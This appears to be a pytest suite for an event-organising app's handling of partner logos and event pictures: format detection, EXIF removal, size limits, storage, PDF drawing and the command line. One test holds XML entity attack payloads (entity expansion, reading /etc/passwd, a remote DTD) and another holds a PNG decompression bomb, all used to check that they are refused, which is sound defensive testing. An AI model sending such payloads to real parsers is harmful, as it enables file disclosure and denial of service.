"""Partner logos and event pictures: what is accepted as a picture (by its bytes, not its
name), what is refused and how the refusal reads, storing and reading them back, the art one
event's flyer gets, drawing them on a PDF, and the command line."""

from __future__ import annotations

import datetime as dt
import io
import re
import struct
import subprocess
import zlib
from pathlib import Path

import pdfplumber
import pytest
from PIL import Image
from reportlab.pdfgen.canvas import Canvas
from sqlalchemy import func, select

from conftest import RALLY_START, make_event, make_group
from rallyorg import app
from rallyorg.db import Database
from rallyorg.domain import fonts
from rallyorg.domain.enums import PartnerRole
from rallyorg.domain.errors import NotFoundError, ValidationError
from rallyorg.domain.events import EventData, EventInput, EventPartnerInput, EventTextInput
from rallyorg.domain.pictures import (
    JPEG,
    MAX_BYTES,
    PNG,
    SVG,
    StoredPicture,
    read_picture,
    read_picture_file,
)
from rallyorg.i18n import translator
from rallyorg.models import PartnerLogo
from rallyorg.services import activity, events, partners, pictures, trash

SHAPES_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100" viewBox="0 0 240 80">'
    b'<rect x="0" y="0" width="240" height="80" fill="#b3261e"/>'
    b'<circle cx="40" cy="40" r="30" fill="#ffffff"/>'
    b'<path d="M90 20 L220 20 L220 60 L90 60 Z" fill="#1f6feb"/>'
    b"</svg>"
)
TEXT_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 60">'
    b'<text x="10" y="40" font-family="Helvetica" font-weight="bold" font-size="30">Uni\xc3\xa3o</text>'
    b"</svg>"
)
# As Illustrator and older Inkscape write it: a DOCTYPE that names the DTD and declares nothing.
ILLUSTRATOR_SVG = (
    b'<?xml version="1.0" encoding="utf-8"?>\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    b'<svg version="1.1" xmlns="http://www.w3.org/2000/svg" width="120mm" height="40mm">'
    b'<rect width="10" height="10"/></svg>'
)


def raster(width: int = 120, height: int = 60, kind: str = "PNG", mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    colour = (179, 38, 30, 128) if mode == "RGBA" else (179, 38, 30)
    Image.new(mode, (width, height), colour).save(buffer, kind)
    return buffer.getvalue()


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(ValidationError) as caught:
        read_picture(data, name, field="logo")
    assert caught.value.field == "logo"
    return caught.value.translated()


# --- what is a picture ----------------------------------------------------------------------------


def test_png_jpeg_and_svg_are_read_with_their_size() -> None:
    png = read_picture(raster(120, 60, mode="RGBA"), "/home/ana/Pictures/logo.png")
    assert (png.media_type, png.width, png.height, png.file_name) == (PNG, 120, 60, "logo.png")
    assert png.aspect == 2.0
    jpeg = read_picture(raster(90, 30, "JPEG"), "photo.jpeg")
    assert (jpeg.media_type, jpeg.width, jpeg.height) == (JPEG, 90, 30)
    svg = read_picture(SHAPES_SVG, "logo.svg")
    assert (svg.media_type, svg.width, svg.height) == (SVG, 240, 80)  # the viewBox
    assert svg.data == SHAPES_SVG  # kept as chosen


def test_a_phone_photo_is_turned_upright_and_loses_its_location() -> None:
    """A phone stores a portrait photo sideways with an orientation tag, and often where it
    was taken: the stored picture is upright and carries no EXIF (a flyer embeds a JPEG's
    bytes as they are)."""
    image = Image.new("RGB", (400, 300), (200, 40, 40))
    image.paste((20, 20, 200), (0, 0, 40, 300))  # a blue band along the left edge, as stored
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: turn 90° clockwise to view
    exif[0x8825] = {1: "N", 2: (41.0, 23.0, 39.0)}  # GPS latitude
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif, quality=95)
    stored = read_picture(buffer.getvalue(), "IMG_2041.jpg")
    assert (stored.width, stored.height) == (300, 400)  # upright: portrait
    with Image.open(io.BytesIO(stored.data)) as upright:
        assert upright.size == (300, 400)
        assert not upright.getexif()  # neither orientation nor GPS left
        red, _green, blue = upright.convert("RGB").getpixel((150, 10))
        assert blue > 150 and red < 80  # the band once on the left is now along the top
    assert b"Exif" not in stored.data[:4096]


def test_a_jpeg_without_metadata_is_stored_byte_for_byte() -> None:
    data = raster(kind="JPEG")
    assert read_picture(data, "plain.jpg").data == data


def test_the_kind_comes_from_the_bytes_not_the_name() -> None:
    assert read_picture(raster(), "logo.svg").media_type == PNG
    assert read_picture(SHAPES_SVG, "logo.png").media_type == SVG
    assert read_picture(raster(kind="JPEG"), "logo").media_type == JPEG


def test_an_svg_sized_in_print_units_or_a_tiny_viewbox_keeps_its_shape() -> None:
    print_units = read_picture(ILLUSTRATOR_SVG, "illustrator.svg")  # a bare DOCTYPE is fine
    assert (print_units.width, print_units.height) == (454, 151)  # 120 × 40 mm at 96 px/in
    tiny = read_picture(b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0,0,1.5,1"/>', "tiny.svg")
    assert (tiny.width, tiny.height) == (1000, 667)


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (b"Rally at noon, bring signs\n", "notes.txt", "notes.txt is not a picture rallyorg can use"),
        (raster(kind="GIF"), "anim.gif", "anim.gif is not a picture rallyorg can use"),
        (b"<html><body><svg></svg></body></html>", "page.svg", "page.svg is not a picture"),
        (raster(400, 300)[:300], "cut.png", "cut.png cannot be read: the picture is damaged or incomplete"),
        (raster(400, 300, "JPEG")[:400], "cut.jpg", "cut.jpg cannot be read: the picture is damaged"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect>', "open.svg", "damaged"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" width="100%"/>', "nosize.svg", "the SVG has no size"),
    ],
)
def test_what_is_not_a_usable_picture_is_refused_by_name(data: bytes, name: str, words: str) -> None:
    assert words in refusal(data, name)


@pytest.mark.parametrize(
    "doctype",
    [
        # "Billion laughs": entities that expand to gigabytes.
        b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        # An external entity: the contents of a file on this computer in the picture.
        b'<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        # A parameter entity pulling in another DTD.
        b'<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote;]>',
    ],
)
def test_an_svg_declaring_entities_is_refused(doctype: bytes) -> None:
    data = (
        b'<?xml version="1.0"?>'
        + doctype
        + b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><text>&b;</text></svg>'
    )
    assert "declares XML entities" in refusal(data, "evil.svg")


def test_too_big_is_refused_in_bytes_and_in_pixels() -> None:
    heavy = raster() + b"\0" * MAX_BYTES
    assert "heavy.png is too big" in refusal(heavy, "heavy.png")
    assert "at most 5 MB" in refusal(heavy, "heavy.png")
    wide = refusal(raster(6001, 10), "banner.png")
    assert "banner.png is too large (6001 × 10 pixels)" in wide
    assert "at most 6000 pixels on a side" in wide
    assert read_picture(raster(6000, 10), "ok.png").width == 6000
    # A header claiming 100,000 pixels a side (a "decompression bomb"): refused unread.
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IEND", b"")
    assert "bomb.png is too large: a picture may have at most 6000 pixels" in refusal(bomb, "bomb.png")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def test_a_refusal_reads_in_the_users_language() -> None:
    with pytest.raises(ValidationError) as caught:
        read_picture(b"hello", "notas.txt")
    spanish = caught.value.translated(translator("es").gettext)
    assert "notas.txt" in spanish  # whichever words the catalog has, the file is named


def test_a_file_is_read_from_disk_and_named_in_refusals(tmp_path: Path) -> None:
    path = tmp_path / "logo.png"
    path.write_bytes(raster())
    assert read_picture_file(path, field="logo").file_name == "logo.png"
    with pytest.raises(ValidationError) as missing:
        read_picture_file(tmp_path / "gone.png", field="logo")
    assert missing.value.field == "logo"
    assert "gone.png cannot be read: the file does not exist" in missing.value.translated()
    with pytest.raises(ValidationError) as folder:
        read_picture_file(tmp_path)
    assert "it is a folder, not a file" in folder.value.translated()
    big = tmp_path / "camera.jpg"
    big.write_bytes(raster(kind="JPEG") + b"\0" * (MAX_BYTES + 10))
    with pytest.raises(ValidationError) as heavy:
        read_picture_file(big)
    assert "camera.jpg is too big (5.0 MB)" in heavy.value.translated()


# --- stored -------------------------------------------------------------------------------------------


def test_a_logo_is_stored_replaced_and_removed(db: Database) -> None:
    group = make_group(db)
    assert pictures.group_logo(db, group.id) is None
    first = read_picture(raster(), "logo.png")
    pictures.save_group_logo(db, group.id, first)
    assert pictures.group_logo(db, group.id) == first
    second = read_picture(SHAPES_SVG, "logo.svg")
    pictures.save_group_logo(db, group.id, second)
    assert pictures.group_logo(db, group.id) == second
    pictures.save_group_logo(db, group.id, None)
    assert pictures.group_logo(db, group.id) is None
    pictures.save_group_logo(db, group.id, None)  # nothing to remove: nothing happens
    # The group itself did not change: an editor open on it can still save.
    assert partners.get_group(db, group.id).version == group.version


def test_an_event_picture_is_stored_and_removed(db: Database) -> None:
    event = make_event(db)
    photo = read_picture(raster(800, 600, "JPEG"), "march.jpg")
    pictures.save_event_picture(db, event.id, photo)
    assert pictures.event_picture(db, event.id) == photo
    pictures.save_event_picture(db, event.id, None)
    assert pictures.event_picture(db, event.id) is None


def test_missing_records_are_not_found(db: Database) -> None:
    logo = read_picture(raster(), "logo.png")
    with pytest.raises(NotFoundError, match="Partner group 404 does not exist"):
        pictures.save_group_logo(db, 404, logo)
    with pytest.raises(NotFoundError, match="Partner group 404 does not exist"):
        pictures.group_logo(db, 404)
    with pytest.raises(NotFoundError, match="Event 404 does not exist"):
        pictures.save_event_picture(db, 404, logo)
    with pytest.raises(NotFoundError, match="Event 404 does not exist"):
        pictures.event_picture(db, 404)
    with pytest.raises(NotFoundError, match="Event 404 does not exist"):
        pictures.flyer_art(db, 404)


def test_bytes_under_another_type_are_not_stored(db: Database) -> None:
    group = make_group(db)
    disguised = StoredPicture(PNG, 10, 10, b"<svg xmlns='http://www.w3.org/2000/svg'/>", "x.png")
    with pytest.raises(ValidationError) as caught:
        pictures.save_group_logo(db, group.id, disguised)
    assert caught.value.field == "logo"
    assert pictures.group_logo(db, group.id) is None


def test_flyer_art_has_the_picture_and_the_logos_of_the_events_groups_only(db: Database) -> None:
    lead, cosponsor, bare, elsewhere = (
        make_group(db, name) for name in ("Unidad Latina", "SEIU 32BJ", "Iglesia San José", "Other")
    )
    event = make_event(db)
    events.update_event(
        db,
        event.id,
        _with_partners(
            event,
            (
                EventPartnerInput(lead.id, PartnerRole.LEAD),
                EventPartnerInput(cosponsor.id, PartnerRole.CO_SPONSOR),
                EventPartnerInput(cosponsor.id, PartnerRole.MARSHALS),  # two roles, one logo
                EventPartnerInput(bare.id, PartnerRole.CO_SPONSOR),
            ),
        ),
        version=event.version,
    )
    logos = {g.id: read_picture(raster(40 + g.id, 20), f"{g.id}.png") for g in (lead, cosponsor, elsewhere)}
    for group_id, logo in logos.items():
        pictures.save_group_logo(db, group_id, logo)
    assert pictures.flyer_art(db, event.id).picture is None
    photo = read_picture(SHAPES_SVG, "hero.svg")
    pictures.save_event_picture(db, event.id, photo)
    art = pictures.flyer_art(db, event.id)
    assert art.picture == photo
    assert dict(art.logos) == {lead.id: logos[lead.id], cosponsor.id: logos[cosponsor.id]}
    assert pictures.flyer_art(db, make_event(db, "Vigil").id).logos == {}


def _with_partners(event: EventData, rows: tuple[EventPartnerInput, ...]) -> EventInput:
    return EventInput(
        starts_at=event.starts_at,
        ends_at=event.ends_at,
        texts={code: EventTextInput(t.title, t.summary) for code, t in event.texts.items()},
        partners=rows,
    )


def test_deleting_a_group_deletes_its_logo_and_undo_brings_it_back(db: Database) -> None:
    group = make_group(db)
    logo = read_picture(raster(), "logo.png")
    pictures.save_group_logo(db, group.id, logo)
    deleted = trash.delete_with_undo(db, "partner_group", group.id)
    assert _logo_rows(db) == 0
    trash.restore(db, deleted)
    assert pictures.group_logo(db, group.id) == logo
    partners.delete_group(db, group.id)
    assert _logo_rows(db) == 0


def _logo_rows(db: Database) -> int:
    with db.reading() as session:
        return int(session.scalar(select(func.count()).select_from(PartnerLogo)) or 0)


def test_a_duplicated_event_keeps_its_picture(db: Database) -> None:
    event = make_event(db)
    photo = read_picture(raster(300, 200, "JPEG"), "march.jpg")
    pictures.save_event_picture(db, event.id, photo)
    copy = events.duplicate_event(db, event.id, RALLY_START + dt.timedelta(days=7))
    assert pictures.event_picture(db, copy.id) == photo
    assert [(e.action, e.fields) for e in activity.record_history(db, "event", copy.id)] == [("created", ())]


def test_changing_a_picture_is_in_the_activity_log(db: Database) -> None:
    group = make_group(db)
    event = make_event(db)
    pictures.save_group_logo(db, group.id, read_picture(raster(), "logo.png"))
    pictures.save_group_logo(db, group.id, None)
    pictures.save_event_picture(db, event.id, read_picture(raster(), "photo.png"))
    group_log = activity.record_history(db, "partner_group", group.id)
    assert [(e.action, e.fields) for e in group_log[:2]] == [("changed", ("logo",))] * 2
    event_log = activity.record_history(db, "event", event.id)
    assert (event_log[0].action, event_log[0].fields) == ("changed", ("picture",))


# --- drawn on a flyer ---------------------------------------------------------------------------------


def _pdf_with(picture: StoredPicture, box: tuple[float, float, float, float]) -> bytes:
    from rallyorg.flyers.pictures import draw_picture

    fonts.register_fonts()
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=(400, 400), invariant=1, initialFontName=fonts.REGULAR)
    assert draw_picture(canvas, picture, *box)
    canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def _fonts_named(pdf: bytes) -> set[str]:
    return {name.decode() for name in re.findall(rb"/BaseFont\s*/([^\s/>]+)", pdf)}


def test_an_svg_logo_is_drawn_as_shapes_in_its_box_with_no_font(tmp_path: Path) -> None:
    pdf = _pdf_with(read_picture(SHAPES_SVG, "logo.svg"), (20, 20, 300, 50))
    assert _fonts_named(pdf) == set()  # no Helvetica the PDF would not embed
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        page = document.pages[0]
        assert not page.images  # vector, not a picture of it
        (background,) = [r for r in page.rects if r["width"] > 100]
        # 240 × 80 scaled into 300 × 50: 150 × 50, centred.
        assert background["x0"] == pytest.approx(95, abs=0.5)
        assert background["width"] == pytest.approx(150, abs=0.5)
        assert background["bottom"] == pytest.approx(400 - 20, abs=0.5)


def test_text_in_an_svg_is_set_in_the_flyers_embedded_font() -> None:
    pdf = _pdf_with(read_picture(TEXT_SVG, "words.svg"), (20, 20, 300, 90))
    named = _fonts_named(pdf)
    assert named and all(name.endswith(f"+{fonts.BOLD}") for name in named), named
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        assert "União" in document.pages[0].extract_text()


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_raster_picture_is_drawn_in_its_box_keeping_its_shape(kind: str) -> None:
    mode = "RGBA" if kind == "PNG" else "RGB"
    pdf = _pdf_with(read_picture(raster(200, 100, kind, mode), f"logo.{kind.lower()}"), (20, 20, 100, 100))
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        (image,) = document.pages[0].images
    assert (image["x0"], image["width"], image["height"]) == pytest.approx((20, 100, 50))
    assert image["bottom"] == pytest.approx(400 - 45)  # centred: 25 pt above and below


# --- the command line ----------------------------------------------------------------------------------


def run(capsys: pytest.CaptureFixture[str], db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    try:
        code = app.main(["--lang", "en", "--db", db_url, *args])
    except SystemExit as exit_:
        code = exit_.code if isinstance(exit_.code, int) else 1
    out, err = capsys.readouterr()
    return subprocess.CompletedProcess(args, code, out, err)


def test_the_command_line_sets_and_removes_a_logo_and_a_picture(
    capsys: pytest.CaptureFixture[str], db: Database, db_url: str, tmp_path: Path
) -> None:
    group = make_group(db)
    event = make_event(db)
    logo = tmp_path / "logo.svg"
    logo.write_bytes(SHAPES_SVG)
    photo = tmp_path / "march.jpg"
    photo.write_bytes(raster(640, 480, "JPEG"))

    done = run(capsys, db_url, "partners", "logo", str(group.id), str(logo))
    assert (done.returncode, done.stdout) == (0, "Iglesia San José has the logo logo.svg (240 × 80).\n")
    assert pictures.group_logo(db, group.id) == read_picture(SHAPES_SVG, "logo.svg")
    done = run(capsys, db_url, "events", "picture", str(event.id), str(photo))
    assert (done.returncode, done.stdout) == (0, f"Event {event.id} has the picture march.jpg (640 × 480).\n")
    assert pictures.event_picture(db, event.id) is not None

    done = run(capsys, db_url, "partners", "logo", str(group.id), "--remove")
    assert (done.returncode, done.stdout) == (0, "Iglesia San José has no logo now.\n")
    assert pictures.group_logo(db, group.id) is None
    done = run(capsys, db_url, "events", "picture", str(event.id), "--remove")
    assert (done.returncode, done.stdout) == (0, f"Event {event.id} has no picture now.\n")
    assert pictures.event_picture(db, event.id) is None


def test_the_command_line_refuses_in_one_line(
    capsys: pytest.CaptureFixture[str], db: Database, db_url: str, tmp_path: Path
) -> None:
    group = make_group(db)
    notes = tmp_path / "notes.txt"
    notes.write_text("not a picture")
    refused = run(capsys, db_url, "partners", "logo", str(group.id), str(notes))
    assert refused.returncode == 1
    assert refused.stderr == (
        "rallyorg: notes.txt is not a picture rallyorg can use: choose a PNG, JPEG or SVG file.\n"
    )
    missing = run(capsys, db_url, "events", "picture", "404", "--remove")
    assert (missing.returncode, missing.stderr) == (1, "rallyorg: Event 404 does not exist.\n")
    both = run(capsys, db_url, "partners", "logo", str(group.id), str(notes), "--remove")
    assert both.returncode == 2
    neither = run(capsys, db_url, "events", "picture", "1")
    assert neither.returncode == 2
    assert "FILE --remove" in neither.stderr
